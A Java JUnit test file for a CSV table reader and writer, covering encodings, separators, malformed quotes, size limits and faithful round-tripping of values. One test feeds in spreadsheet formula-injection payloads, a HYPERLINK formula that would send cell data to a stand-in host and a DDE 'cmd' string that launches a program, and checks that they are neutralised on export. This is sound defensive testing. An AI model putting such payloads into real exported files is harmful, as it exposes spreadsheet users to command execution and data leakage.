package io.lianluo.documents.table;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.lianluo.domain.Fault;
import io.lianluo.domain.InvalidInput;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Comma-separated values come in as every program of an office writes them. */
class CsvReaderTest {

    private static final String TWO = "unit,v-1,示例甲单位\nunit,v-2,示例乙单位\n";

    @ParameterizedTest
    @ValueSource(strings = {
        "\uFEFF\"type\",\"unit\",\"unit_name\"\r\n\"unit\",\"v-1\",\"示例甲单位\"\r\n\"unit\",\"v-2\",\"示例乙单位\"\r\n",
        "\uFEFF\uFEFF\"type\",unit,unit_name\n" + TWO,
        "sep=,\ntype,unit,unit_name\n" + TWO,
        "\uFEFFsep=,\r\ntype,unit,unit_name\r\n" + TWO,
        "\"sep=;\"\ntype;unit;unit_name\nunit;v-1;示例甲单位\nunit;v-2;示例乙单位\n",
        "sep=|\ntype|unit|unit_name\nunit|v-1|示例甲单位\nunit|v-2|示例乙单位\n",
        "type;unit;unit_name\nunit;v-1;示例甲单位\nunit;v-2;示例乙单位\n",
        "type\tunit\tunit_name\nunit\tv-1\t示例甲单位\nunit\tv-2\t示例乙单位",
        "\n\n  ,,\n\u00A0,\u3000,\ntype,unit,unit_name\n" + TWO,
        " type , unit\u00A0,\u3000unit_name \n" + TWO,
        "\u200Btype,\u2060unit,unit_\u200Dname\n" + TWO,
        "ｔｙｐｅ,Ｕｎｉｔ,UNIT_NAME\n" + TWO,
        "\"type\" , \"unit\",  \"unit_name\"\n" + TWO,
        "type,unit,unit_name\runit,v-1,示例甲单位\runit,v-2,示例乙单位\r",
        "type,unit,unit_name\r\nunit,v-1,示例甲单位\nunit,v-2,示例乙单位\r",
        "type,unit,unit_name,,\nunit,v-1,示例甲单位,,,,\n,,\nunit,v-2,示例乙单位,,\n",
        "type,unit,unit_name\nunit,\u00A0v-1\u200B, \"示例甲单位\"\nunit,v-2\t,示例乙单位\u3000",
    })
    void theSameTableInManyForms(String text) {
        Read read = Read.csv(text);
        assertThat(read.faults()).isEmpty();
        assertThat(read.column("unit")).containsExactly("v-1", "v-2");
        assertThat(read.column("unit_name")).containsExactly("示例甲单位", "示例乙单位");
    }

    @ParameterizedTest
    @CsvSource({"UTF-8", "GB18030", "UTF-16LE", "UTF-16BE"})
    void quotedNamesBehindAMarkAreNamesInEveryEncoding(String charset) {
        Read read = Read.of(TableFormat.CSV, ("\uFEFF\"type\",\"unit\"\n\"unit\",\"v-1\"\n").getBytes(Charset.forName(charset)));
        assertThat(read.column("unit")).containsExactly("v-1");
        assertThat(read.encoding()).isEqualTo(charset);
    }

    @Test
    void linesKeepTheirNumbersInTheFile() {
        assertThat(Read.csv("sep=,\n\ntype,unit\nunit,v-1\n\nunit,\"v-\n2\"\nunit,v-3\n").rows()).extracting(Read.Row::number).containsExactly(4L, 6L, 8L);
    }

    @Test
    void aQuoteThatIsWrongInALateLineTakesInNothing(@TempDir Path directory) throws IOException {
        StringBuilder text = new StringBuilder("type,unit,unit_name\n");
        for (int i = 1; i <= 700; i++) {
            text.append(i == 651 ? "unit,v05-651,\"示例戊\"六五一单位\n" : "unit,v05-%d,示例戊%d单位\n".formatted(i, i));
        }
        Path file = Files.writeString(directory.resolve("table.csv"), text);
        assertThatExceptionOfType(InvalidInput.class).as("before anything is taken in").isThrownBy(() -> TableFormat.CSV.check(file, null, Read.SAMPLE, new Read.Noting()))
                .returns(List.of(new Fault("file", "sample-not-csv", List.of(652L))), InvalidInput::faults);
    }

    @ParameterizedTest
    @ValueSource(strings = {"type,unit,unit_name\nunit,v-1,\"示例", "type,unit,unit_name\nunit,v-1,\"示例\nunit,v-2,示例\n", "type,unit,unit_name\nunit,v-1,\"a\" b\n"})
    void aQuoteThatIsNeverClosedIsTold(String text) {
        assertThat(refusal(text)).isEqualTo("sample-not-csv");
    }

    @Test
    void aFileOfCommasTakesNoMemory() {
        assertThat(refusal(",".repeat(25 << 20))).isEqualTo("sample-line-too-long");
        assertThat(refusal("type,unit\n" + ",".repeat(1 << 20))).isEqualTo("sample-line-too-long");
        assertThat(refusal("type,unit\nunit,\"" + "x\n".repeat(1 << 20))).isEqualTo("sample-line-too-long");
        assertThat(Read.csv("type,unit\nunit,v-1" + ",".repeat(50_000) + "\n").column("unit")).as("before cells that a spreadsheet left").containsExactly("v-1");
    }

    @Test
    void aWorkbookThatIsSentAsTextIsToldSo() {
        assertThat(refusal("PK\u0003\u0004rest")).isEqualTo("sample-workbook-as-csv");
        assertThat(refusal("")).isEqualTo("sample-empty");
        assertThat(refusal("\n , ,\n")).isEqualTo("sample-empty");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://sample.example/?x=\"&B2,\"示例\")", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+86示例", "-2+3", "＝1", "＋1", "－1", "＠示例"})
    void whatASpreadsheetWouldRunIsHarmlessAndComesBack(String text) throws IOException {
        for (TableFormat format : TableFormat.values()) {
            assertThat(roundTrip(format, text)).isEqualTo(text);
            assertThat(roundTrip(format, "'" + text)).isEqualTo("'" + text);
            assertThat(roundTrip(format, "''" + text)).isEqualTo("''" + text);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvTable table = CsvTable.begin(out, Stream.of("line"));
        table.line(Stream.of(text));
        table.flush();
        assertThat(out.toString(StandardCharsets.UTF_8)).contains("'" + text.replace("\"", "\"\""));
    }

    @ParameterizedTest
    @ValueSource(strings = {"'示例", "示例 = 1", "_x0041_", "示例_x000A_示例", "a\"b", "a,b;c", "sep=,", "'"})
    void otherTextComesBackAsItWas(String text) throws IOException {
        for (TableFormat format : TableFormat.values()) {
            assertThat(roundTrip(format, text)).isEqualTo(text);
        }
    }

    /** Two thousand texts of all that could go wrong and that a unit may be called; always the same ones, so that a failure comes again. */
    @ParameterizedTest
    @EnumSource(TableFormat.class)
    void anyTextComesBackAsItWas(TableFormat format) throws IOException {
        Random random = new Random(2026);
        String[] pieces = {"'", "=", "+", "-", "@", "＝", "＠", "\"", ",", ";", " ", "_x0041_", "_", "示", "𠮷", "a", "0", "|"};
        List<String> texts = Stream.generate(() -> Blanks.strip(random.ints(1 + random.nextInt(6), 0, pieces.length).mapToObj(i -> pieces[i]).collect(Collectors.joining())))
                .filter(text -> !text.isEmpty()).limit(2_000).toList();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        format.write(out, List.of("type", "unit", "unit_name"), then -> texts.forEach(text ->
                then.accept(List.of("unit", "v-1", text))));
        Read read = Read.of(format, out.toByteArray());
        assertThat(read.faults()).isEmpty();
        assertThat(read.column("unit_name")).isEqualTo(texts);
    }

    private static String roundTrip(TableFormat format, String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        format.write(out, List.of("type", "unit", "unit_name"),
                then -> then.accept(List.of("unit", "v-1", text)));
        Read read = Read.of(format, out.toByteArray());
        assertThat(read.faults()).isEmpty();
        return read.column("unit_name").getFirst();
    }

    private static String refusal(String text) {
        return assertThatExceptionOfType(InvalidInput.class).isThrownBy(() -> Read.csv(text)).actual().faults().getFirst().rule();
    }
}
